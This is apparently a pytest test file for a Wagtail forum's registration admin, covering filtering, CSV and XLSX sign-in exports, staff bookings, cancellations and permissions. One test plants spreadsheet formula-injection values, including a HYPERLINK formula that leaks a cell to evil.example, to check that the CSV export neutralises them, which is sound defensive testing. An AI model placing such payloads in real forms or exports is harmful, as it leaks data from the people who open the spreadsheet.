"""Staff work with registrations in Wagtail's admin."""

import csv
import io
from http import HTTPStatus

import openpyxl
import pytest
from django.contrib.auth import get_user_model
from django.contrib.auth.models import Permission
from django.core import mail
from django.test import Client
from django.urls import reverse
from wagtail.test.utils.form_data import inline_formset, nested_form_data, rich_text, streamfield
from wagtail.users.models import UserProfile

from forum import services
from forum.models import ForumSessionPage, Registration
from tests.factories import TopicFactory
from tests.forum.factories import RegistrationFactory

pytestmark = pytest.mark.django_db

Status = Registration.Status


@pytest.fixture
def staff(client: Client) -> Client:
    """A superuser whose admin speaks English, so that tests can read its messages."""
    user = get_user_model().objects.create_superuser("staff", "staff@example.org", "pw")
    profile = UserProfile.get_for_user(user)
    profile.preferred_language = "en"
    profile.save()
    client.force_login(user)
    return client


@pytest.fixture
def people(session: ForumSessionPage) -> list[Registration]:
    """Two seats taken, one person waiting, one unconfirmed."""
    amira = RegistrationFactory(session=session, name="Amira", interpretation="ar")
    boris = RegistrationFactory(session=session, name="Boris", accessibility_needs="Rampe")
    clara = RegistrationFactory(session=session, name="Clara")
    RegistrationFactory(session=session, name="Dana")
    for person in (amira, boris, clara):
        services.confirm(person)
    return list(Registration.objects.order_by("name"))


def listed_names(response) -> list[str]:
    from bs4 import BeautifulSoup

    soup = BeautifulSoup(response.text, "html.parser")
    return [row.select_one("td.title a").get_text(strip=True) for row in soup.select("tbody tr")]


def test_staff_see_registrations_filtered_by_status_and_needs(
    staff: Client, people: list[Registration], session: ForumSessionPage
) -> None:
    index = reverse("forum_registrations:index")
    assert listed_names(staff.get(index)) == ["Amira", "Boris", "Clara", "Dana"]
    assert listed_names(staff.get(index, {"status": "confirmed"})) == ["Amira", "Boris"]
    assert listed_names(staff.get(index, {"status": "waitlisted"})) == ["Clara"]
    assert listed_names(staff.get(index, {"needs": "true"})) == ["Boris"]
    assert listed_names(staff.get(index, {"interpretation": "ar"})) == ["Amira"]
    assert listed_names(staff.get(index, {"session": session.pk, "q": "Dan"})) == ["Dana"]


def test_list_queries_do_not_grow_with_registrations(
    staff: Client, people: list[Registration], session: ForumSessionPage
) -> None:
    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    index = reverse("forum_registrations:index")
    staff.get(index)
    with CaptureQueriesContext(connection) as small:
        staff.get(index)
    for _ in range(10):
        RegistrationFactory(session=session)
    with CaptureQueriesContext(connection) as large:
        staff.get(index)
    assert len(large.captured_queries) == len(small.captured_queries)


def test_sign_in_list_exports_as_csv_without_email_addresses(
    staff: Client, people: list[Registration]
) -> None:
    response = staff.get(reverse("forum_registrations:index"), {"export": "csv"})
    assert response.status_code == HTTPStatus.OK
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[0] == [
        "Session",
        "Name",
        "Organisation",
        "Status",
        "No.",
        "Interpretation",
        "Accessibility needs",
        "Signature",
    ]
    assert [row[1] for row in rows[1:]] == ["Amira", "Boris", "Clara", "Dana"]
    assert rows[1][5] == "Arabic"
    assert "@" not in text


def test_sign_in_list_csv_runs_no_formula_typed_into_the_form(
    staff: Client, session: ForumSessionPage
) -> None:
    """Names, organisations and needs are what strangers typed in: a spreadsheet must show
    them as text, never run them."""
    RegistrationFactory(
        session=session,
        name='=HYPERLINK("https://evil.example/?"&A1,"Details")',
        organisation="+49 170 1234567",
        accessibility_needs="@SUM(1+1)",
    )
    RegistrationFactory(
        session=session, name="-2+3", organisation="\tTab", accessibility_needs="\rx"
    )
    response = staff.get(reverse("forum_registrations:index"), {"export": "csv"})
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    cells = [
        cell for row in list(csv.reader(io.StringIO(text)))[1:] for cell in row[1:3] + row[6:7]
    ]
    assert cells and all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)
    assert """'=HYPERLINK("https://evil.example/?"&A1,"Details")""" in cells


def test_sign_in_list_exports_as_xlsx_for_the_filtered_status(
    staff: Client, people: list[Registration]
) -> None:
    response = staff.get(
        reverse("forum_registrations:index"), {"export": "xlsx", "status": "confirmed"}
    )
    assert response.status_code == HTTPStatus.OK
    workbook = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    rows = list(workbook.active.values)
    assert rows[0][-1] == "Signature"
    assert [row[1] for row in rows[1:]] == ["Amira", "Boris"]


def test_staff_register_someone_by_phone(staff: Client, session: ForumSessionPage, commit):
    with commit():
        response = staff.post(
            reverse("forum_registrations:add"),
            {
                "session": session.pk,
                "name": "Herr Yilmaz",
                "email": "",
                "organisation": "",
                "interpretation": "tr",
                "accessibility_needs": "",
                "language": "de",
            },
        )
    assert response.status_code == HTTPStatus.FOUND, response.content
    registration = Registration.objects.get()
    assert registration.status == Status.CONFIRMED
    assert registration.source == Registration.Source.STAFF
    assert mail.outbox == []


def test_staff_cannot_register_an_address_twice(
    staff: Client, session: ForumSessionPage, people: list[Registration]
) -> None:
    response = staff.post(
        reverse("forum_registrations:add"),
        {"session": session.pk, "name": "Amira", "email": people[0].email, "language": "de"},
    )
    assert response.status_code == HTTPStatus.OK
    assert "already registered for this session" in response.text
    assert Registration.objects.count() == 4


def test_staff_cancel_a_registration_and_the_waitlist_moves_up(
    staff: Client, people: list[Registration], commit
) -> None:
    amira, boris, clara, dana = people
    cancel_url = reverse("forum_registrations:cancel", args=[amira.pk])
    assert staff.get(cancel_url).status_code == HTTPStatus.OK
    with commit():
        response = staff.post(cancel_url)
    assert response.status_code == HTTPStatus.FOUND
    assert Registration.objects.get(pk=amira.pk).status == Status.CANCELLED
    assert Registration.objects.get(pk=clara.pk).status == Status.CONFIRMED
    assert {message.to[0] for message in mail.outbox} == {amira.email, clara.email}


def test_staff_delete_a_registration_on_request_and_the_seat_is_given_on(
    staff: Client, people: list[Registration]
) -> None:
    amira, boris, clara, dana = people
    response = staff.post(reverse("forum_registrations:delete", args=[amira.pk]))
    assert response.status_code == HTTPStatus.FOUND
    assert not Registration.objects.filter(pk=amira.pk).exists()
    assert Registration.objects.get(pk=clara.pk).status == Status.CONFIRMED


def test_staff_correct_details_but_not_the_status(
    staff: Client, people: list[Registration]
) -> None:
    amira = people[0]
    response = staff.post(
        reverse("forum_registrations:edit", args=[amira.pk]),
        {
            "name": "Amira Saleh",
            "email": amira.email,
            "organisation": "Verein",
            "interpretation": "",
            "accessibility_needs": "",
            "language": "en",
            "status": "cancelled",
        },
    )
    assert response.status_code == HTTPStatus.FOUND, response.content
    amira.refresh_from_db()
    assert (amira.name, amira.language, amira.status) == ("Amira Saleh", "en", Status.CONFIRMED)


def test_session_edit_page_shows_the_counts(
    staff: Client, session: ForumSessionPage, people: list[Registration]
) -> None:
    response = staff.get(reverse("wagtailadmin_pages:edit", args=[session.pk]))
    assert response.status_code == HTTPStatus.OK
    html = response.text
    assert "Registrations so far" in html
    assert "2 of 2" in html
    assert reverse("forum_registrations:index") + f"?session={session.pk}" in html


def test_editors_without_permission_do_not_see_registrations(
    client: Client, people: list[Registration]
) -> None:
    user = get_user_model().objects.create_user("editor", "e@example.org", "pw")
    user.user_permissions.add(Permission.objects.get(codename="access_admin"))
    client.force_login(user)
    response = client.get(reverse("forum_registrations:index"))
    assert response.status_code != HTTPStatus.OK
    assert "Amira" not in response.content.decode()


def session_form_data() -> dict:
    """What the page editor sends for a new session with two agenda items."""
    data = nested_form_data(
        {
            "title": "Gesundheit für alle",
            "slug": "gesundheit",
            "topic": TopicFactory(name="Gesundheit", slug="health").pk,
            "intro": "Zugang zu Ärztinnen und Ärzten.",
            "start": "2031-05-14 18:00",
            "end": "2031-05-14 20:30",
            "venue_name": "",
            "venue_address": "Hildesheimer Straße 18\n30169 Hannover",
            "directions": "",
            "step_free": "on",
            "online_url": "",
            "capacity": "30",
            "registration_opens": "",
            "registration_closes": "",
            "minutes": rich_text(""),
            "results": streamfield([]),
            "documents": streamfield([]),
            "photos": streamfield([]),
            "agenda_items": inline_formset(
                [
                    {"time": "18:00", "title": "Begrüßung", "speakers": "", "description": ""},
                    {"time": "18:15", "title": "Podium", "speakers": "Dr. Hoffmann"},
                ]
            ),
        }
    )
    data["languages"] = ["de", "en"]
    data["interpretation"] = ["ar", "gsg"]
    return data


def test_editor_previews_a_new_session(staff: Client, forum) -> None:
    url = reverse("wagtailadmin_pages:preview_on_add", args=["forum", "forumsessionpage", forum.pk])
    assert staff.post(url, session_form_data()).json()["is_valid"]
    response = staff.get(url)
    assert response.status_code == HTTPStatus.OK
    assert "Gesundheit für alle" in response.text
    assert "Podium" in response.text


def test_editor_creates_a_session_with_agenda_in_the_page_editor(staff: Client, forum) -> None:
    data = {**session_form_data(), "action-publish": "publish"}
    response = staff.post(
        reverse("wagtailadmin_pages:add", args=["forum", "forumsessionpage", forum.pk]),
        data,
    )
    assert response.status_code == HTTPStatus.FOUND, response.content.decode()[:3000]
    session = ForumSessionPage.objects.get(slug="gesundheit")
    assert session.live
    assert session.languages == ["de", "en"]
    assert session.interpretation == ["ar", "gsg"]
    assert session.start.isoformat() == "2031-05-14T16:00:00+00:00"
    assert [item.title for item in session.agenda_items.all()] == ["Begrüßung", "Podium"]


def test_editor_sees_a_message_when_the_session_ends_before_it_begins(staff: Client, forum) -> None:
    data = nested_form_data(
        {
            "title": "Falsch",
            "slug": "falsch",
            "topic": TopicFactory(name="Gesundheit", slug="health").pk,
            "start": "2031-05-14 18:00",
            "end": "2031-05-14 17:00",
            "online_url": "https://meet.example.org/x",
            "capacity": "30",
            "minutes": rich_text(""),
            "results": streamfield([]),
            "documents": streamfield([]),
            "photos": streamfield([]),
            "agenda_items": inline_formset([]),
        }
    )
    response = staff.post(
        reverse("wagtailadmin_pages:add", args=["forum", "forumsessionpage", forum.pk]), data
    )
    assert response.status_code == HTTPStatus.OK
    assert "The session must end after it begins." in response.text
    assert not ForumSessionPage.objects.filter(slug="falsch").exists()


def test_registration_admin_pages_open(staff: Client, people: list[Registration]) -> None:
    amira = people[0]
    for url in [
        reverse("forum_registrations:add"),
        reverse("forum_registrations:edit", args=[amira.pk]),
        reverse("forum_registrations:inspect", args=[amira.pk]),
        reverse("forum_registrations:delete", args=[amira.pk]),
        reverse("forum_registrations:cancel", args=[amira.pk]),
        reverse("wagtailadmin_home"),
    ]:
        assert staff.get(url).status_code == HTTPStatus.OK, url
